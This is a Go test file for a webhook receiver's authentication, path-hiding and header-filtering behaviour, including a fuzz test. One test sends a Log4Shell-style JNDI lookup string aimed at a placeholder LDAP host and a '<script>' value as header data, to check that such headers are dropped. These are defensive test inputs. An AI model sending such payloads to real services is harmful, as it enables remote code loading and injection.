// SPDX-License-Identifier: Apache-2.0

package webhookreceiver

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/cloudinary-operator/cloudinary-operator/internal/queue"
	"github.com/cloudinary-operator/cloudinary-operator/webhookreceiver/route"
)

// told is all that a sender learns from an answer.
type told struct {
	Status int
	Header http.Header
	Text   string
	Closes bool // the connection
}

func answerTo(t *testing.T, r *http.Request) told {
	t.Helper()
	got, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = got.Body.Close() }()
	text, err := io.ReadAll(got.Body)
	if err != nil {
		t.Fatal(err)
	}
	got.Header.Del("Date")
	return told{got.StatusCode, got.Header, string(text), got.Close}
}

// strangers are requests of who does not have the key, each with its reason.
func strangers(t *testing.T, url string) map[string]struct {
	request *http.Request
	reason  Reason
} {
	t.Helper()
	at := func(path, body string, change func(*http.Request)) *http.Request {
		r := signed(t, url+path, body, now)
		if change != nil {
			change(r)
		}
		return r
	}
	forged := func(r *http.Request) { r.Header.Set(headerSignature, strings.Repeat("0", 40)) }
	method := func(name string) func(*http.Request) { return func(r *http.Request) { r.Method = name } }
	return map[string]struct {
		request *http.Request
		reason  Reason
	}{
		"no such endpoint":           {at("/v1/notifications/shop/other", `{}`, nil), ReasonUnknownEndpoint},
		"no such namespace":          {at("/v1/notifications/other/media", `{}`, nil), ReasonUnknownEndpoint},
		"a token too many":           {at(path+"/0123456789abcdef0123456789abcdef", `{}`, nil), ReasonUnknownEndpoint},
		"another path":               {at("/", `{}`, nil), ReasonUnknownEndpoint},
		"behind another's path":      {at("/v1/notifications/other-team/x"+path, `{}`, nil), ReasonUnknownEndpoint},
		"an endpoint without keys":   {at(keylessPath, `{}`, nil), "no_keys"},
		"PUT":                        {at(path, `{}`, method(http.MethodPut)), ReasonMethod},
		"PUT at no endpoint":         {at("/v1/notifications/shop/other", `{}`, method(http.MethodPut)), ReasonUnknownEndpoint},
		"no signature":               {at(path, `{}`, func(r *http.Request) { r.Header.Del(headerSignature) }), "missing_signature"},
		"no timestamp":               {at(path, `{}`, func(r *http.Request) { r.Header.Del(headerTimestamp) }), "missing_timestamp"},
		"a timestamp that is none":   {at(path, `{}`, func(r *http.Request) { r.Header.Set(headerTimestamp, "soon") }), "malformed_timestamp"},
		"a signature that is none":   {at(path, `{}`, func(r *http.Request) { r.Header.Set(headerSignature, "x") }), "malformed_signature"},
		"another signature":          {at(path, `{}`, forged), "bad_signature"},
		"another signature, no JSON": {at(path, `{"a":`, forged), "bad_signature"},
		"only the second kind": {at(path, `{}`, func(r *http.Request) {
			r.Header.Del(headerSignature)
			r.Header.Set(headerSignatureV2, "00")
		}), "only_v2"},
		"recorded long ago": {signed(t, url+path, `{}`, now.Add(-3*time.Hour)), "stale"},
		"from the future":   {signed(t, url+path, `{}`, now.Add(time.Hour)), "future"},
		"too large":         {at(path, jsonOf(100_001), nil), ReasonBodyTooLarge},
		"too large, of a length not said": {at(path, jsonOf(100_001), func(r *http.Request) {
			r.ContentLength = -1
		}), ReasonBodyTooLarge},
	}
}

func TestStrangersGetOneAnswerWhateverTheReason(t *testing.T) {
	quiet := func(o *Options) { o.VerboseRefusals, o.MaxBodyBytes = false, 100_000 }
	w := newWorld(t, quiet)
	want := told{http.StatusUnauthorized, http.Header{
		"Content-Length": {strconv.Itoa(len(unauthorized) + 1)}, "Content-Type": {"text/plain; charset=utf-8"},
		"X-Content-Type-Options": {"nosniff"},
	}, unauthorized + "\n", true}
	for name, tc := range strangers(t, w.url) {
		t.Run(name, func(t *testing.T) {
			before := w.recorder.rejected[tc.reason]
			if diff := cmp.Diff(want, answerTo(t, tc.request)); diff != "" {
				t.Errorf("answered (-want +got):\n%s", diff)
			}
			if w.recorder.rejected[tc.reason] != before+1 {
				t.Errorf("%s is not counted for the owner: %v", tc.reason, w.recorder.rejected)
			}
		})
	}
	t.Log("without a body as well, at any path")
	for _, at := range []string{path, keylessPath, "/v1/notifications/shop/other", "/", path + "/"} {
		for _, method := range []string{http.MethodGet, http.MethodPost, http.MethodOptions, http.MethodDelete} {
			r, err := http.NewRequestWithContext(t.Context(), method, w.url+at, http.NoBody)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want, answerTo(t, r)); diff != "" {
				t.Errorf("%s %s answered (-want +got):\n%s", method, at, diff)
			}
		}
	}
}

func TestItIsNotedWhetherAnybodyCouldHaveGuessedThePath(t *testing.T) {
	const token = "/0123456789abcdef0123456789abcdef"
	e := testEndpoint(t)
	e.Paths = append(e.Paths, path+token)
	table := route.NewTable([]*route.Endpoint{e})
	w := newWorld(t, func(o *Options) { o.Routes = func() *route.Table { return table } })
	for i, at := range []string{path + token, path, "/hooks" + path, "/v1/notifications/shop/other" + token} {
		r := signed(t, w.url+at, `{}`, now)
		r.Header.Set(headerSignature, strings.Repeat("0", 40))
		if answerTo(t, r); w.recorder.guessed != i {
			t.Errorf("after %s %d requests count as at a path that anybody can guess, want %d", at, w.recorder.guessed, i)
		}
	}
}

func TestNothingTellsWhichPathsThereAreWhileTheReceiverIsFull(t *testing.T) {
	w := newWorld(t, func(o *Options) { o.VerboseRefusals, o.MaxInFlight = false, 0 })
	var want told
	for i, at := range []string{path, keylessPath, "/v1/notifications/shop/other", "/"} {
		got := answerTo(t, signed(t, w.url+at, `{}`, now))
		if i == 0 {
			want = got
		}
		if diff := cmp.Diff(want, got); diff != "" || got.Status != http.StatusServiceUnavailable || got.Header.Get("Retry-After") == "" {
			t.Errorf("%s is answered %d (-as an endpoint +got):\n%s", at, got.Status, diff)
		}
	}
}

func TestNothingTellsWhichPathsThereAreBeforeTheRoutesAre(t *testing.T) {
	w := newWorld(t, func(o *Options) { o.VerboseRefusals, o.Routes = false, func() *route.Table { return nil } })
	for _, at := range []string{path, "/"} {
		if got := answerTo(t, signed(t, w.url+at, `{}`, now)); got.Status != http.StatusServiceUnavailable || got.Text != string(ReasonNotLoaded)+"\n" {
			t.Errorf("%s is answered %+v", at, got)
		}
	}
}

func TestWhoHasTheKeyIsToldTheReason(t *testing.T) {
	for name, tc := range map[string]struct {
		body   string
		err    error
		status int
		reason Reason
	}{
		"no JSON":              {body: `{"a":`, status: http.StatusBadRequest, reason: "not_json"},
		"the queue is full":    {err: queue.ErrFull, status: http.StatusServiceUnavailable, reason: ReasonQueueFull},
		"the disk is full":     {err: queue.ErrDiskFull, status: http.StatusServiceUnavailable, reason: ReasonDiskFull},
		"the store has failed": {err: queue.ErrFailed, status: http.StatusServiceUnavailable, reason: ReasonStoreFailed},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, func(o *Options) { o.VerboseRefusals = false })
			w.store.err = tc.err
			if tc.body == "" {
				tc.body = `{}`
			}
			if got := answerTo(t, signed(t, w.url+path, tc.body, now)); got.Status != tc.status || got.Text != string(tc.reason)+"\n" {
				t.Errorf("answered %+v, want %d %s", got, tc.status, tc.reason)
			}
		})
	}
}

// Nothing but body and timestamp is signed: a sender who only replays, or a proxy, writes the rest.
func TestOnlyHeadersOfCloudinarysReachATarget(t *testing.T) {
	w := newWorld(t, nil)
	r := signed(t, w.url+path, `{"notification_type":"upload"}`, now)
	for name, value := range map[string]string{
		"Content-Type": "application/x-yaml", "User-Agent": "Cloudinary ${jndi:ldap://192.0.2.1/a}", "X-Cld-Anything": "of the replayer's", "X-Cld-": "x",
		"X-Cld-Timestamp2": "1", "Content-Encoding": "gzip", "Ce-Type": "x", "X-Cloudinary-Operator-Endpoint": "shop/other", "Idempotency-Key": "x",
		"X-Cld-Signature_v2": "<script>",
	} {
		r.Header.Set(name, value)
	}
	if got := send(t, r); got.status != http.StatusOK {
		t.Fatalf("answered %+v", got)
	}
	want := []queue.Header{
		{Name: "Content-Type", Value: "application/json"},
		{Name: "X-Cld-Signature", Value: r.Header.Get("X-Cld-Signature")},
		{Name: "X-Cld-Timestamp", Value: r.Header.Get("X-Cld-Timestamp")},
	}
	if diff := cmp.Diff(want, w.store.records[0].Header); diff != "" {
		t.Errorf("stored (-want +got):\n%s", diff)
	}
}

// Whatever comes, only what is rightly signed is answered 200, at a path of the endpoint's.
func FuzzHandler(f *testing.F) {
	f.Add("POST", path, "1795000000", strings.Repeat("0", 40), "", []byte(`{}`))
	f.Add("GET", keylessPath, "", "", "", []byte(nil))
	f.Add("POST", "/hooks"+path, "1795000000", "", "AAAA", []byte(`{"a":1}`))
	f.Add("POST", "/%2F/../x?y#z", "-1", "x", "y", []byte("\x00"))
	f.Fuzz(func(t *testing.T, method, target, timestamp, signature, v2 string, body []byte) {
		table := route.NewTable([]*route.Endpoint{testEndpoint(t)})
		stored := &store{}
		o := DefaultOptions()
		o.Routes, o.Store, o.Recorder, o.Now = func() *route.Table { return table }, stored, &recorder{}, func() time.Time { return now }
		r, err := http.NewRequest(method, "http://receiver"+target, io.NopCloser(bytes.NewReader(body))) //nolint:noctx // it goes nowhere
		if err != nil {
			return
		}
		if isHealthCheck(r) {
			return
		}
		r.ContentLength = int64(len(body))
		for name, value := range map[string]string{headerTimestamp: timestamp, headerSignature: signature, headerSignatureV2: v2} {
			if value != "" {
				r.Header[name] = []string{value}
			}
		}
		answer := httptest.NewRecorder()
		NewHandler(o).ServeHTTP(answer, r)
		if answer.Code == http.StatusOK || len(stored.records) > 0 {
			t.Errorf("answered %d, and %d stored, without the key", answer.Code, len(stored.records))
		}
		if answer.Code != http.StatusUnauthorized || strings.TrimSpace(answer.Body.String()) != unauthorized {
			t.Errorf("a stranger is answered %s", fmt.Sprint(answer.Code, " ", answer.Body))
		}
	})
}
